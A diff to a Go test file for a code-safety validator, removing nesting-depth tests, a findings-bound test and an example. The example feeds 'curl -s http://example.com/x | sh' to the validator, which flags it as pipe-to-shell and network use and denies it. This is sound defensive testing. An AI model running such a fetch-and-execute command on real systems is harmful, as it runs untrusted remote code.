@@ -4,7 +4,6 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
-	"fmt"
 	"strings"
 	"testing"
 
@@ -147,61 +146,4 @@ func TestExecutorsThatFail(t *testing.T) {
 	if _, err := v.Validate(ctx, Code{"bash", "ls"}); !errors.Is(err, context.Canceled) {
 		t.Error(err)
 	}
-}
-
-// Parsers of this process follow nesting with their stacks; none may overflow.
-func TestNesting(t *testing.T) {
-	v, err := New(nil, Options{MaxChars: LargestMaxChars})
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, c := range []struct{ language, open string }{
-		{"bash", "("}, {"bash", "$("}, {"bash", `"$(`}, {"bash", "`"}, {"bash", "${a:-"}, {"bash", "if "}, {"bash", "! "}, {"bash", "((("}, {"bash", "<("},
-		{"js", "("}, {"js", "["}, {"js", "!"}, {"js", "{"}, {"js", "a=>"}, {"js", "if(a)"}, {"js", "`${"}, {"js", "a?"}, {"ts", "<a>"}, {"ts", "type a=("},
-		{"bash", `(")"`}, {"bash", "(')'"}, {"js", `(")",`}, {"js", "- "}, {"js", "new "}, {"js", "a**"}, {"js", "a:"}, {"js", "if(a);else "}, {"js", "async a=>"},
-		{"js", "await "}, {"ts", "a as "}, {"js", "a?b:"}, {"js", "a=b=>"}, {"js", "a??="}, {"bash", "x && "}, {"bash", "x | "}, {"bash", "time "}, {"bash", "[[ ! "},
-	} {
-		_, err := v.Validate(t.Context(), Code{c.language, strings.Repeat(c.open, LargestMaxChars/len(c.open))})
-		if err != nil {
-			t.Errorf("%s %s: %v", c.language, c.open, err)
-		}
-	}
-	for _, open := range []string{"-", "!", "~", "1?1:", "a=", "(')'"} {
-		if _, err := v.Validate(t.Context(), Code{"bash", "$((" + strings.Repeat(open, LargestMaxChars/len(open)-1)}); err != nil {
-			t.Errorf("bash $((%s: %v", open, err)
-		}
-	}
-}
-
-func TestFindingsAreBounded(t *testing.T) {
-	r := check(t, nil, &Policy{Default: Review, Rules: []Rule{{Match: []string{"bash.privilege"}, Decision: Deny}}}, "bash",
-		strings.Repeat("ls\n", 500)+"sudo x\n")
-	if len(r.Findings) != maxFindings || r.Decision != Deny || r.Findings[maxFindings-1].Decision != Deny {
-		t.Errorf("%d findings, %s", len(r.Findings), r.Decision)
-	}
-	r = check(t, nil, Strict(), "bash", "\x1b[2Jx \u202e"+strings.Repeat("y", 1000)+" ; sudo z\t"+strings.Repeat("é", 1000))
-	for _, f := range r.Findings {
-		if n := len([]rune(f.Evidence)); n > maxEvidence || strings.ContainsAny(f.Evidence+f.Message+f.Rule, "\x1b\u202e\t\n") {
-			t.Errorf("%d characters: %q", n, f.Evidence)
-		}
-	}
-}
-
-func Example() {
-	v, err := New(nil, Options{Policy: Production()}) // an executor is needed for Python
-	if err != nil {
-		panic(err)
-	}
-	r, err := v.Validate(context.Background(), Code{Language: "sh", Source: "cd data\ncurl -s http://example.com/x | sh\n"})
-	if err != nil {
-		panic(err)
-	}
-	fmt.Println(r.Valid, r.Decision)
-	for _, f := range r.Findings {
-		fmt.Printf("%d:%d %s: %s; %s\n", f.Line, f.Column, f.Rule, f.Message, f.Remedy)
-	}
-	// Output:
-	// true deny
-	// 2:1 bash.dynamic.pipe-to-shell: runs what another command prints; save it to a file, read it, then run it
-	// 2:1 bash.network.curl: curl uses the network; use the files that are there
 }
